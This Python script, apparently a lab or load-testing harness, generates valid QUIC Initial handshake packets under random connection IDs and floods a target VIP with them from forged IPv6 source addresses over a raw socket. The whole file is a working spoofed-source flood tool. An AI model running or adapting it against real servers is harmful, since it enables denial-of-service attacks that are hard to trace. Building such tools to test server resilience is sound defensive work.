# SPDX-License-Identifier: Apache-2.0
"""Sends first packets of QUIC connections from forged addresses.

    flood.py INTERFACE DESTINATION_MAC VIP PORT PACKETS PACKETS_PER_SECOND SEED

Each is a real Initial (RFC 9001, section 5): one client's TLS handshake under one of 10,000 connection IDs, from a forged
address in 2001:db8:c000::/36. A server cannot distinguish it from a client's until the handshake gets no answer. The
program prints `ready` and starts at SIGUSR1.
"""

import hashlib
import hmac
import random
import signal
import socket
import struct
import sys
import time

from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

SALT = bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a")
SOURCES = int.from_bytes(socket.inet_pton(socket.AF_INET6, "2001:db8:c000::"), "big")
NETWORKS = 1 << 28
"""Number of /64 networks in the /36; the first few are the clients'."""
IDS = 10_000
AT_ONCE = 50
"""Packets between two readings of the clock."""


def expand(secret: bytes, label: str, length: int) -> bytes:
    """Return HKDF-Expand-Label (RFC 8446, section 7.1) of at most one hash length."""
    full = b"tls13 " + label.encode()
    info = struct.pack(">HB", length, len(full)) + full + b"\0"
    return hmac.digest(secret, info + b"\1", hashlib.sha256)[:length]


class Initials:
    """One client's Initial, for any connection ID."""

    def __init__(self) -> None:
        configuration = QuicConfiguration(is_client=True, alpn_protocols=["h3"])
        client = QuicConnection(configuration=configuration)
        client.connect(("::", 0), now=0.0)
        ((datagram, _), *_) = client.datagrams_to_send(now=0.0)
        size = datagram[5]
        keys = self._keys(datagram[6 : 6 + size])
        # The IDs are followed by an empty token, a length of two bytes, and a packet number of two bytes; the packet is
        # followed by zeros.
        number = 6 + size + 1 + datagram[6 + size] + 1 + 2
        end = number + (int.from_bytes(datagram[number - 2 : number], "big") & 0x3FFF)
        mask = self._mask(keys[2], datagram[number + 4 : number + 20])
        head = bytes([datagram[0] ^ mask[0] & 0x0F]) + datagram[1:number]
        assert head[0] & 3 == 1, "packet number of two bytes"
        head += bytes(a ^ b for a, b in zip(datagram[number : number + 2], mask[1:3], strict=True))
        self._text = AESGCM(keys[0]).decrypt(self._nonce(keys[1], head[-2:]), datagram[number + 2 : end], head)
        self._head, self._size, self._padding = head, size, bytes(len(datagram) - end)

    def make(self, destination: bytes) -> bytes:
        """Return the Initial with a connection ID of the same length as the client's."""
        key, iv, protect = self._keys(destination)
        head = self._head[:6] + destination + self._head[6 + self._size :]
        text = AESGCM(key).encrypt(self._nonce(iv, head[-2:]), self._text, head)
        mask = self._mask(protect, text[2:18])
        number = bytes(a ^ b for a, b in zip(head[-2:], mask[1:3], strict=True))
        return bytes([head[0] ^ mask[0] & 0x0F]) + head[1:-2] + number + text + self._padding

    @property
    def id_length(self) -> int:
        """Length of the connection IDs."""
        return self._size

    @staticmethod
    def _keys(destination: bytes) -> tuple[bytes, bytes, bytes]:
        secret = expand(hmac.digest(SALT, destination, hashlib.sha256), "client in", 32)
        return expand(secret, "quic key", 16), expand(secret, "quic iv", 12), expand(secret, "quic hp", 16)

    @staticmethod
    def _nonce(iv: bytes, number: bytes) -> bytes:
        return iv[:10] + bytes(a ^ b for a, b in zip(iv[10:], number, strict=True))

    @staticmethod
    def _mask(key: bytes, sample: bytes) -> bytes:
        return Cipher(algorithms.AES(key), modes.ECB()).encryptor().update(sample)


def frame(mac: bytes, source: bytes, vip: bytes, source_port: int, port: int, payload: bytes) -> bytes:
    """Return an Ethernet frame over IPv6 and UDP, with a checksum."""
    length = 8 + len(payload)
    udp = struct.pack(">HHHH", source_port, port, length, 0) + payload
    padded = source + vip + struct.pack(">IHBB", length, 0, 0, 17) + udp + bytes(length % 2)
    checksum = 0xFFFF - int.from_bytes(padded, "big") % 0xFFFF
    head = struct.pack(">IHBB", 6 << 28, length, 17, 64) + source + vip
    return mac + bytes.fromhex("02000000010286dd") + head + udp[:6] + struct.pack(">H", checksum) + udp[8:]


def main(interface: str, mac: str, vip: str, port: str, count: str, rate: str, seed: str) -> None:
    rng, initials = random.Random(seed), Initials()
    to, at = bytes.fromhex(mac.replace(":", "")), socket.inet_pton(socket.AF_INET6, vip)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    payloads = [initials.make(rng.randbytes(initials.id_length)) for _ in range(IDS)]
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
    print("ready", flush=True)
    signal.sigwait({signal.SIGUSR1})
    begun = time.monotonic()
    for n in range(int(count)):
        if n % AT_ONCE == 0:
            time.sleep(max(0.0, begun + n / int(rate) - time.monotonic()))
        source = SOURCES + (rng.randrange(1 << 16, NETWORKS) << 64) + rng.getrandbits(64)
        source_port = rng.randrange(1024, 1 << 16)
        out.send(frame(to, source.to_bytes(16, "big"), at, source_port, int(port), payloads[n % IDS]))


if __name__ == "__main__":
    main(*sys.argv[1:])
